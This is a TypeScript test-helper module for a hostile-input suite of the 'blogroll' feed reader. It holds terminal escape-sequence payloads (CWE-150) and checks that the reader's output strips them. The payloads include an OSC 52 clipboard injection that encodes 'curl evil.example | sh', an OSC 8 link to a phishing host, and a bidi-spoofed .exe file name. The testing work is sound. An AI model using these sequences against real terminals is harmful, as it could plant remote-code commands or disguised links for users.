/**
 * Shared pieces of the hostile suite: the CWE-150 payload corpus and its checks, a
 * blogroll runner that also reports the child's peak memory, and a way to subscribe many
 * feeds without fetching them (writing config.json the way a user would).
 */
import {execFile, spawn, type ChildProcess} from 'node:child_process';
import {mkdtempSync, readFileSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import Database from 'better-sqlite3';
import {expect} from 'vitest';

export const CLI = join(import.meta.dirname, '..', '..', 'dist', 'cli.js');
const PEAK_RSS_PRELOAD = join(import.meta.dirname, 'report-peak-rss.mjs');

export const ESC = '\u001B';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/**
 * Terminal-control payloads (CWE-150) a hostile feed, server or file can carry. Each has
 * a marker word that stays visible (it is ordinary text) and, for string sequences, a
 * payload that must disappear with its sequence (see SWALLOWED).
 */
export const PAYLOADS = {
	bell: `Klingel${BEL}`,
	backspace: 'Rechnung bezahlt\b\b\b\b\b\b\b offen',
	carriageReturn: 'Alles gut\rGEFÄLSCHT',
	c0: 'a\u0000b\u0001c\u000Ed\u001Fe',
	del: 'x\u007Fy',
	c1: 'p\u0080q\u0085r\u0099s',
	csi8bit: '\u009B2JACHT',
	clear: `${ESC}[2J${ESC}[H`,
	colour: `${ESC}[31;1mROT${ESC}[0m`,
	altScreen: `${ESC}[?1049h`,
	osc8: `${ESC}]8;;https://phish.example/${BEL}KLICK${ESC}]8;;${BEL}`,
	osc52: `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}`,
	oscTitle: `${ESC}]0;TITELKLAU${ST}`,
	dcs: `${ESC}P1$qDCSPAYLOAD${ST}`,
	apc: `${ESC}_Gf=100;APCPAYLOAD${ST}`,
	pm: `${ESC}^PMPAYLOAD${ST}`,
	bidi: 'rechnung\u202Efdp.exe \u2066isoliert\u2069 \u202Aeingebettet\u202C \u202Bx\u202D',
} as const;

/** Text that exists only inside a payload's sequence and must vanish with it. */
export const SWALLOWED = ['Y3VybCBldmlsLmV4YW1wbGUgfCBzaA', 'TITELKLAU', 'DCSPAYLOAD', 'APCPAYLOAD', 'PMPAYLOAD', 'phish.example'];

/** Every payload in one string, with a harmless word between them. */
export const ALL_PAYLOADS = Object.values(PAYLOADS).join(' und ');

// Anything that could steer a terminal: C0 except tab/newline, DEL, C1, bidi controls.
const UNSAFE = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/u;
const UNSAFE_LINE = /[\u0000-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069\u2028\u2029]/u;

/** Describes the first unsafe character (for a readable failure), or null. */
function firstUnsafe(text: string, pattern: RegExp): string | null {
	const match = pattern.exec(text);
	if (!match) return null;
	const code = match[0].codePointAt(0)!.toString(16).padStart(4, '0');
	return `U+${code} at ${match.index}: …${JSON.stringify(text.slice(Math.max(0, match.index - 30), match.index + 30))}…`;
}

/**
 * What the checks assume of the input: `sequencesIntact` (default true) when the payloads
 * reached blogroll as real escape sequences, so their string payloads must vanish whole;
 * false when something on the way (undici's UTF-8 reading of a reason phrase) had already
 * turned the introducers into U+FFFD, leaving the payload as plain, harmless text.
 */
export interface SafetyCheck {
	readonly sequencesIntact?: boolean;
}

/** Output that reaches a terminal: no control character but tab/newline, no swallowed payload. */
export function expectTerminalSafe(text: string, where: string, check: SafetyCheck = {}): void {
	expect(firstUnsafe(text, UNSAFE), `${where}: control character`).toBeNull();
	if (check.sequencesIntact === false) return;
	for (const swallowed of SWALLOWED) expect(text, `${where}: payload of a string sequence`).not.toContain(swallowed);
}

/** A single-line field (title, author, url, error message): not even a tab or newline. */
export function expectSafeLine(text: string | null | undefined, where: string, check: SafetyCheck = {}): void {
	if (text === null || text === undefined) return;
	expect(firstUnsafe(text, UNSAFE_LINE), `${where}: control character in a one-line field`).toBeNull();
	if (check.sequencesIntact === false) return;
	for (const swallowed of SWALLOWED) expect(text, `${where}: payload of a string sequence`).not.toContain(swallowed);
}

/** Every string anywhere in a JSON value (after JSON.parse), with its path. */
export function stringsOf(value: unknown, path = '$'): [string, string][] {
	if (typeof value === 'string') return [[path, value]];
	if (Array.isArray(value)) return value.flatMap((item, index) => stringsOf(item, `${path}[${index}]`));
	if (typeof value === 'object' && value !== null) return Object.entries(value).flatMap(([key, item]) => stringsOf(item, `${path}.${key}`));
	return [];
}

/** A throw-away BLOGROLL_HOME. */
export function makeHome(): string {
	return mkdtempSync(join(tmpdir(), 'blogroll-hostile-'));
}

export interface SubscriptionSeed {
	readonly url: string;
	readonly title?: string | null;
	readonly tags?: readonly string[];
}

/** Subscribes without fetching: config.json as `blogroll import` would leave it. */
export function writeConfig(home: string, subscriptions: readonly SubscriptionSeed[], settings: Record<string, unknown> = {}): void {
	const config = {
		settings,
		subscriptions: subscriptions.map(seed => ({
			url: seed.url,
			title: seed.title ?? null,
			tags: [...(seed.tags ?? [])],
			fullArticle: false,
			addedAt: '2026-11-01T08:00:00.000Z',
		})),
		views: [],
		ignore: [],
	};
	writeFileSync(join(home, 'config.json'), `${JSON.stringify(config, null, '\t')}\n`);
}

export interface MeasuredResult {
	readonly code: number;
	readonly stdout: string;
	readonly stderr: string;
	/** Peak resident set size of the blogroll process, MB (null if it did not exit normally). */
	readonly peakRssMb: number | null;
}

/**
 * Runs the built blogroll (dist/cli.js) as a user would, without a terminal and without
 * colour, and reports its peak memory. Asynchronous, so a fixture server in the test
 * process can answer it.
 */
export function runBlogroll(
	args: readonly string[],
	options: {readonly home: string; readonly env?: Record<string, string>; readonly input?: string; readonly timeoutMs?: number},
): Promise<MeasuredResult> {
	const rssFile = join(options.home, `.peak-rss-${process.pid}-${Math.random().toString(36).slice(2)}`);
	return new Promise(resolve => {
		const child = execFile(
			process.execPath,
			['--import', PEAK_RSS_PRELOAD, CLI, ...args],
			{
				env: {
					PATH: process.env['PATH'],
					HOME: options.home,
					BLOGROLL_HOME: options.home,
					NO_COLOR: '1',
					LANG: 'C.UTF-8',
					BLOGROLL_TEST_RSS_FILE: rssFile,
					...options.env,
				},
				// Never the repository: whatever a bug writes to the current directory stays in the home.
				cwd: options.home,
				timeout: options.timeoutMs ?? 90_000,
				maxBuffer: 64 * 1024 * 1024,
			},
			(error, stdout, stderr) => {
				const code = error ? (typeof error.code === 'number' ? error.code : 1) : 0;
				let peakRssMb: number | null = null;
				try {
					peakRssMb = Math.round(Number(readFileSync(rssFile, 'utf8')) / 1024);
				} catch {
					// Killed or crashed before exit: no figure.
				}
				resolve({code, stdout, stderr, peakRssMb});
			},
		);
		child.stdin?.end(options.input ?? '');
	});
}

/** Starts blogroll without waiting for it (for kill tests). */
export function spawnBlogroll(args: readonly string[], options: {readonly home: string; readonly env?: Record<string, string>}): ChildProcess {
	return spawn(process.execPath, [CLI, ...args], {
		cwd: options.home,
		env: {PATH: process.env['PATH'], HOME: options.home, BLOGROLL_HOME: options.home, NO_COLOR: '1', LANG: 'C.UTF-8', ...options.env},
		stdio: ['ignore', 'pipe', 'pipe'],
	});
}

/** The per-feed results of `refresh --json`. */
export interface RefreshResultJson {
	readonly url: string;
	readonly title: string | null;
	readonly outcome: 'updated' | 'not-modified' | 'failed' | 'skipped';
	readonly newEntries: number;
	readonly status: number | null;
	readonly message: string | null;
}

/** `list --json` rows. */
export interface ListedFeed {
	readonly id: number | null;
	readonly title: string;
	readonly url: string;
	readonly unread: number;
	readonly total: number;
	readonly lastStatus: number | null;
	readonly lastError: string | null;
	readonly errorStreak: number;
	readonly nextFetchAt: string | null;
}

/** Lines of a command's output that are not empty. */
export function linesOf(text: string): string[] {
	return text.split('\n').filter(line => line.trim() !== '');
}

/** A stack trace line, as Node prints them. */
export const STACK_LINE = /^\s+at .+(?:\(|:\d+:\d+)/m;

/** The guids of a feed's cached entries, read straight from cache.db. */
export function cachedGuids(home: string, feedUrl: string): Set<string> {
	const db = new Database(join(home, 'cache.db'), {readonly: true});
	try {
		const rows = db.prepare('SELECT e.guid AS guid FROM entries e JOIN feeds f ON f.id = e.feed_id WHERE f.url = ?').all(feedUrl) as {guid: string}[];
		return new Set(rows.map(row => row.guid));
	} finally {
		db.close();
	}
}
